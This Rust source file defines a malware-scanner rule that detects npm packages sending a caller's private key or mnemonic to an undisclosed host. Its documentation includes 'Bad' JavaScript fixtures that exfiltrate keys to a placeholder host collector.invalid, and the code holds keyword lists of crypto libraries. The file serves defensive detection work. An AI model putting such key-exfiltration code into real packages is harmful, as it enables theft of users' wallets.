//! # A key that a caller hands over leaves the machine
//!
//! A private key, seed or mnemonic that is an argument of the package's own function reaches a constant
//! host of which the package says nothing.
//!
//! ## Why it matters
//!
//! Hijacked libraries of chains look and work as before; one line in the key's constructor sends every key
//! to the attacker.
//!
//! ## Known benign uses
//!
//! Remote signers send to a host that the caller sets. Clients of a service send their key to the service
//! they are named after or that their README names; without dealing in keys of a chain, a package is not
//! looked at.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "wallet-kit", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! exports.fromPrivateKey = function (privateKey) {
//!   fetch("https://collector.invalid/x", { method: "POST", headers: { "x-id": privateKey } }); //~ here
//!   return { privateKey };
//! };
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.mjs", "dependencies": {"bs58": "6.0.0"}}
//! == index.mjs
//! import bs58 from "bs58";
//! const report = (text) => fetch("https://collector.invalid/?q=" + text); //~ here
//! export class Account {
//!   constructor(mnemonic) {
//!     this.mnemonic = mnemonic;
//!     report(bs58.encode(Buffer.from(mnemonic)));
//!   }
//! }
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "acme-payments", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! exports.client = (secretKey) => ({
//!   charge: (amount) => fetch("https://api.acme.example/charge", { method: "POST", headers: { authorization: secretKey }, body: amount }),
//! });
//! ```
//!
//! ```package
//! == package.json
//! {"name": "wallet-signer", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! exports.importKey = (endpoint, privateKey) => fetch(endpoint + "/keys", { method: "POST", body: privateKey });
//! ```
//!
//! ## References
//!
//! - Solana: web3.js postmortem (December 2024)
//! - XRPL: xrpl.js disclosure (April 2025)

use crate::prelude::*;

/// A key that a caller hands over leaves the machine.
pub struct SecretArgumentSent;

impl Rule for SecretArgumentSent {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "secret-argument-sent",
            title: "A key that a caller hands over leaves the machine",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1657",
            covers: &["collect-key-from-api", "call-time-payload"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let deals_in_keys = deals_in_keys(facts);
        for flow in facts.flows(is_key, |sink| sink.host().is_some() && sink.leaves_machine()) {
            let is_chain = flow.sink.host().is_some_and(|host| host.class() == HostClass::Chain);
            let is_unsaid = flow.sink.host().is_some_and(|host| !facts.says_host(host));
            // A library that derives addresses from keys and, elsewhere, fetches pictures by address is honest.
            let is_one_file = flow.source_spot.script == flow.sink_spot.script;
            if flow.trigger != Trigger::Dormant
                && is_one_file
                && is_unsaid
                && !is_chain
                && (deals_in_keys || is_phrase(&flow.source))
            {
                found.flow(flow);
            }
        }
    }
}

/// Arguments that hold a key; passwords go to the service that asks for them.
fn is_key(source: &Source) -> bool {
    matches!(source, Source::SecretArgument(name) if !["password", "passphrase", "secret"].contains(&name.to_ascii_lowercase().as_str()))
}

/// Words that open a wallet, which no other software asks for.
fn is_phrase(source: &Source) -> bool {
    let words = |name: &str| {
        matches!(
            name.replace('_', "").to_ascii_lowercase().as_str(),
            "mnemonic" | "seedphrase" | "walletsecret"
        )
    };
    matches!(source, Source::SecretArgument(name) if words(name))
}

/// Whether the package's name or what it loads says that it handles keys of a chain.
fn deals_in_keys(facts: &Facts<'_>) -> bool {
    const WORDS: [&str; 24] = [
        "wallet",
        "keypair",
        "bs58",
        "base58",
        "tweetnacl",
        "ed25519",
        "secp256k1",
        "ethers",
        "web3",
        "xrpl",
        "ripple",
        "solana",
        "bip39",
        "bip32",
        "elliptic",
        "bitcoin",
        "mnemonic",
        "keystore",
        "hdkey",
        "tronweb",
        "viem",
        "raydium",
        "ledger",
        "dydx",
    ];
    /// Words that say so in the package's own name, where no dependency is meant.
    const OWN: [&str; 9] = ["chain", "crypto", "coin", "signer", "defi", "swap", "dex-", "token", "trading"];
    let manifest = facts.manifest();
    let name =
        manifest.and_then(|manifest| manifest.name.as_deref()).unwrap_or_default().to_ascii_lowercase();
    let names = manifest.into_iter().flat_map(|manifest| {
        manifest
            .name
            .as_deref()
            .into_iter()
            .chain(manifest.dependencies.production.keys().map(String::as_str))
    });
    let loads = facts.loads().iter().filter_map(|load| load.specifier.as_deref());
    OWN.iter().any(|word| name.contains(word))
        || names.chain(loads).any(|name| WORDS.iter().any(|word| name.to_ascii_lowercase().contains(word)))
}
